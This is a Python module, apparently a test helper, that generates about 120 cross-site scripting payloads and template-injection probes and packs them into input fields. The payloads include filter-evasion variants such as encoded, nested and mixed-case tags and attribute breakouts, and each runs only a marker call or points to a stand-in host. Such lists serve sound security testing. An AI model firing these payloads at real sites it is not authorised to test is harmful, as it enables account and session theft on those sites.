"""What attackers write where words are asked for: 120 ways to have a page run it.

Each calls `xss`, loads `xss`, opens a dialog, or makes an element with that name, so
that a page which lets one through shows it.
"""

from collections.abc import Iterator

_CALL = "window.xss=1"
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>",
    "<script src=/xss.js></script>",
    "<script src=data:text/javascript,{}></script>",
    "<script type=module>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<img src=xss onerror={}>",
    "<img src=xss onerror='{}'>",
    '<img src=xss onerror="{}">',
    "<img src=`xss` onerror={}>",
    "<img/src=xss/onerror={}>",
    "<img\tsrc=xss\tonerror={}>",
    "<IMG SRC=xss OnErRoR={}>",
    "<img src=xss onerror={} //",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><script xlink:href=data:,{}></script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><a xlink:href=javascript:{}><text y=20>xss</text></a></svg>",
    "<svg><use href=data:image/svg+xml,xss#x></svg>",
    "<svg><foreignObject><img src=xss onerror={}></foreignObject></svg>",
    "<svg><style>@import'/xss.css'</style></svg>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<iframe onload={}></iframe>",
    "<iframe src=javascript:{}></iframe>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    "<iframe srcdoc=&lt;script&gt;parent.{}&lt;/script&gt;></iframe>",
    "<iframe src=data:text/html,<script>{}</script>></iframe>",
    "<object data=javascript:{}></object>",
    "<object data=data:text/html;base64,PHNjcmlwdD54c3M8L3NjcmlwdD4=></object>",
    "<embed src=javascript:{}>",
    "<details open ontoggle={}>xss</details>",
    "<input autofocus onfocus={}>",
    "<textarea autofocus onfocus={}></textarea>",
    "<select autofocus onfocus={}></select>",
    "<button autofocus onfocus={}>xss</button>",
    "<a href=javascript:{}>xss</a>",
    "<a href='java\tscript:{}'>xss</a>",
    "<a href=&#106;avascript:{}>xss</a>",
    "<a href=//xss.example>xss</a>",
    "<a id=xss name=xss>xss</a>",
    "<form id=xss action=javascript:{}><input type=submit></form>",
    "<form action=//xss.example><button>xss</button></form>",
    "<button form=x formaction=javascript:{}>xss</button>",
    "<input type=image src=xss onerror={}>",
    "<video src=xss onerror={}></video>",
    "<video><source onerror={}></video>",
    "<video poster=//xss.example/x></video>",
    "<audio src=xss onerror={}></audio>",
    "<marquee onstart={}>xss</marquee>",
    "<div onmouseover={} style=position:fixed;inset:0>xss</div>",
    "<div style=background:url(//xss.example/x)>xss</div>",
    "<p style=animation-name:x onanimationstart={}>xss</p>",
    "<style>body{{display:none}}</style>",
    "<style>@import url(//xss.example/x.css)</style>",
    "<link rel=stylesheet href=//xss.example/x.css>",
    "<link rel=prefetch href=//xss.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=//xss.example'>",
    "<meta http-equiv=Content-Security-Policy content=script-src'unsafe-inline'>",
    "<base href=//xss.example/>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=xss onerror={}>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=xss onerror={}>",
    "<math href=javascript:{}>xss</math>",
    "<math><annotation-xml encoding=text/html><script>{}</script>",
    "<table background=javascript:{}><tr><td>xss</table>",
    "<xss id=x tabindex=1 onfocus={} autofocus></xss>",
    "<dialog open onclose={}>xss</dialog>",
    "<isindex action=javascript:{} type=submit>",
    "<keygen autofocus onfocus={}>",
    "<frameset onload={}></frameset>",
    "<portal src=javascript:{}></portal>",
    "<picture><source srcset=xss><img onerror={} src=xss></picture>",
    "<track src=xss onerror={}>",
    "<custom-xss onclick={}>xss</custom-xss>",
    "<plaintext>",
    "<!-- xss",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<%= {} %>",
)
_BREAKS = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    "--><script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</select><img src=xss onerror={}>",
    "</option></select><img src=xss onerror={}>",
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    "` onmouseover={} x=`",
    '" autofocus onfocus={} x="',
    "x onfocus={} autofocus ",
    '" style="position:fixed" x="',
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "{{{{7*7}}}}",
    "{{{{config}}}}{{%raw%}}",
    "${{7*7}}#{{7*7}}",
    "{{% include 'page.html' %}}",
    "%(name)s %s {{0}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u202e<script>{}</script>",
    "<\u200bscript>{}</script>",
    "<img src=xss onerror\u00a0={}>",
    "\u2028<script>{}</script>",
)


def payloads() -> list[str]:
    """All of them."""
    return [each.format(_CALL) for each in (*_TAGS, *_BREAKS)]


def filling(longest: int, turn: int) -> str:
    """Return as many as fit, from another one on in each turn; never none of them."""
    rest = _after(turn, longest)
    text = next(rest)
    for each in rest:
        if len(text) + len(each) + 1 > longest:
            break
        text += f" {each}"
    return text


def _after(turn: int, longest: int) -> Iterator[str]:
    every = [each for each in payloads() if len(each) <= longest]
    at = turn % len(every)
    yield from every[at:] + every[:at]
